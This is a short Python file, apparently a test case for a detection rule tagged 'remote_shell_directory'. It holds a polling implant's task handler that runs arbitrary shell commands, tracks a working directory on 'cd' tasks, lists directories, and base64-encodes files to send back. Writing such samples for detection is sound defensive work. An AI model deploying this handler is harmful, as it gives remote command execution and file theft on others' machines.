# a polling implant's task handler: CWD moves on a "cd" task, commands run there, listings go back
import base64
import os
import subprocess

CWD = os.path.expanduser("~")


def run(t):
    global CWD
    c, a = t["c"], t.get("a")
    if c == "x":
        p = subprocess.run(a, shell=True, cwd=CWD, capture_output=True, timeout=240)
        return (p.stdout + p.stderr).decode(errors="replace")
    if c == "cd":
        # ruleid: remote_shell_directory
        CWD = os.path.abspath(os.path.join(CWD, os.path.expanduser(a)))
        return CWD
    if c == "ls":
        return os.listdir(os.path.join(CWD, a or "."))
    if c == "up":
        with open(os.path.join(CWD, a), "rb") as f:
            return base64.b64encode(f.read()).decode()
